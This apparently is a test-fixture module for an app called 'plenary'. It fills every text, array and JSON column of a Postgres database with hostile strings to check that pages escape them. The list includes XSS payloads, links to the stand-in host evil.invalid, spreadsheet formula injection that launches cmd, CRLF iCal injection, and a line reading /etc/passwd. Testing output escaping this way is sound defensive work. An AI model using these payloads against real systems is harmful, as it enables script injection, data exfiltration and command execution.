/**
 * Words that were made to hurt whoever shows them, put into every text that a database keeps of people. What would run
 * says so by setting `plenaryRan` in its window, and by asking for something at a host that nobody has.
 */
import { withConnection } from '@plenary/database';

export const EVIL_HOST = 'evil.invalid';
const RUN = 'top.plenaryRan=1';

/** By where they would run: between elements, in attributes, in addresses, in other formats. */
export const HOSTILE_WORDS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></style></noscript></template><script>${RUN}</script>`,
  `<script src=//${EVIL_HOST}/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//${EVIL_HOST}/x.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script href=data:text/javascript,${RUN} /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<object data=data:text/html,<script>${RUN}</script>></object>`,
  `<embed src=javascript:${RUN}>`,
  `<form action=javascript:${RUN}><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<base href=//${EVIL_HOST}/>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL_HOST}/">`,
  `<link rel=stylesheet href=//${EVIL_HOST}/x.css>`,
  `<style>@import url(//${EVIL_HOST}/x.css);*{background:url(//${EVIL_HOST}/y)}</style>`,
  `<x style="background:url(//${EVIL_HOST}/z)" onclick=${RUN}>x</x>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} x='`,
  `\` onmouseover=${RUN} \``,
  `javascript:${RUN}`,
  `  java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `[a](javascript:${RUN}) ![b](//${EVIL_HOST}/m.png) <https://${EVIL_HOST}>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %>`,
  `{count, plural, =0 {<b>none</b>} other {#}} {0} {name`,
  `<!--<script>${RUN}</script>--> <![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;`,
  `\u2028\u2029<script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>\u202c`,
  `<scr\u200bipt>${RUN}</script> ＜script＞${RUN}＜/script＞`,
  `=HYPERLINK("//${EVIL_HOST}/"&A1,"x")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `x\r\nATTENDEE:mailto:evil@${EVIL_HOST}\r\nX: y`,
  `#eval("1") #read("/etc/passwd") \\input{/etc/passwd} $(id) \`id\``,
];

/** Addresses that would run or lead away, where an address is kept. */
const HOSTILE_LINKS: readonly string[] = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `//${EVIL_HOST}/`,
];

/** What addresses, joins, sorts or computes: other words there would be another row, or none. */
const KEPT =
  /(?:^|_)(?:id|code|slug|reference|lang|dir|zone|hash|key|media_type|address|language|head|previous|salt|day|cause|origin|block|line|block_id|config|currency|needed_by)$/;
const NOT_PEOPLES = ['_prisma_migrations', 'setup_tokens', 'entries', 'streams', 'entry_salts', 'api_tokens', 'files'];

interface Column {
  tab: string;
  name: string;
  type: 'text' | '_text' | 'jsonb';
}

/** Puts them into every text column, each row another; answers which columns it filled. */
export async function fillWithHostileWords(url: string): Promise<string[]> {
  return withConnection(url, { role: null }, async (client) => {
    const { rows } = await client.query<Column>(`
      SELECT c.table_name AS tab, c.column_name AS name, c.udt_name AS type
      FROM information_schema.columns c JOIN information_schema.tables t USING (table_schema, table_name)
      WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' AND c.is_generated = 'NEVER'
        AND c.udt_name IN ('text', '_text', 'jsonb')
      ORDER BY 1, 2`);
    await client.query('BEGIN');
    // Revisions, dispositions and their like are never changed: here they are, as no application could.
    await client.query("SET LOCAL session_replication_role = 'replica'");
    await client.query('CREATE TEMP TABLE hostile (n int PRIMARY KEY, word text, link text) ON COMMIT DROP');
    await client.query(
      'INSERT INTO hostile SELECT n - 1, w, ($2::text[])[1 + (n - 1) % $3] FROM unnest($1::text[]) WITH ORDINALITY AS x (w, n)',
      [[...HOSTILE_WORDS], [...HOSTILE_LINKS], HOSTILE_LINKS.length],
    );
    await client.query(`
      CREATE FUNCTION pg_temp.hostile_at(seed text, part text) RETURNS text LANGUAGE sql AS $$
        SELECT CASE WHEN part = 'link' THEN link ELSE word END FROM hostile
        WHERE n = abs(hashtext(seed) % ${HOSTILE_WORDS.length}) $$`);
    await client.query(`
      CREATE FUNCTION pg_temp.hostile_json(value jsonb, seed text, name text) RETURNS jsonb LANGUAGE plpgsql AS $$
      BEGIN
        RETURN CASE jsonb_typeof(value)
          WHEN 'array' THEN (SELECT coalesce(jsonb_agg(pg_temp.hostile_json(v, seed || n, name) ORDER BY n), '[]')
            FROM jsonb_array_elements(value) WITH ORDINALITY AS x (v, n))
          WHEN 'object' THEN (SELECT coalesce(jsonb_object_agg(k, pg_temp.hostile_json(v, seed || k, k)), '{}')
            FROM jsonb_each(value) AS x (k, v))
          WHEN 'string' THEN CASE
            WHEN name IN ('text', 'title', 'name', 'label', 'words', 'question') AND value #>> '{}' <> ''
              THEN to_jsonb(pg_temp.hostile_at(seed, 'word') || ' ' || (value #>> '{}'))
            WHEN name IN ('url', 'href') THEN to_jsonb(pg_temp.hostile_at(seed, 'link'))
            ELSE value END
          ELSE value END;
      END $$`);
    // A page has to hold without what the database refuses as well.
    const { rows: refusals } = await client.query<{ tab: string; name: string }>(
      `SELECT conrelid::regclass::text AS tab, conname AS name FROM pg_constraint WHERE contype = 'c' AND conname LIKE '%\\_link'`,
    );
    for (const { tab, name } of refusals) await client.query(`ALTER TABLE ${tab} DROP CONSTRAINT "${name}"`);
    const filled: string[] = [];
    for (const { tab, name, type } of rows) {
      if (KEPT.test(name) || NOT_PEOPLES.includes(tab)) continue;
      const seed = `'${tab}.${name}' || t.ctid::text`;
      const part = /^(link|url)$/.test(name) ? 'link' : 'word';
      const to = {
        text:
          part === 'link'
            ? `pg_temp.hostile_at(${seed}, 'link')`
            : `pg_temp.hostile_at(${seed}, 'word') || ' ' || t."${name}"`,
        _text: `ARRAY(SELECT pg_temp.hostile_at(${seed} || n, 'word') || ' ' || w FROM unnest(t."${name}") WITH ORDINALITY AS x (w, n))`,
        jsonb: `pg_temp.hostile_json(t."${name}", ${seed}, '${name}')`,
      }[type];
      await client.query(`UPDATE "${tab}" t SET "${name}" = ${to} WHERE t."${name}" IS NOT NULL`);
      filled.push(`${tab}.${name}`);
    }
    // A revision's text is its blocks'.
    await client.query(`
      UPDATE revisions r SET canonical_text = (
        SELECT string_agg(b ->> 'text', E'\\n' ORDER BY n) FROM jsonb_array_elements(r.blocks) WITH ORDINALITY AS x (b, n))`);
    await client.query('COMMIT');
    return filled;
  });
}
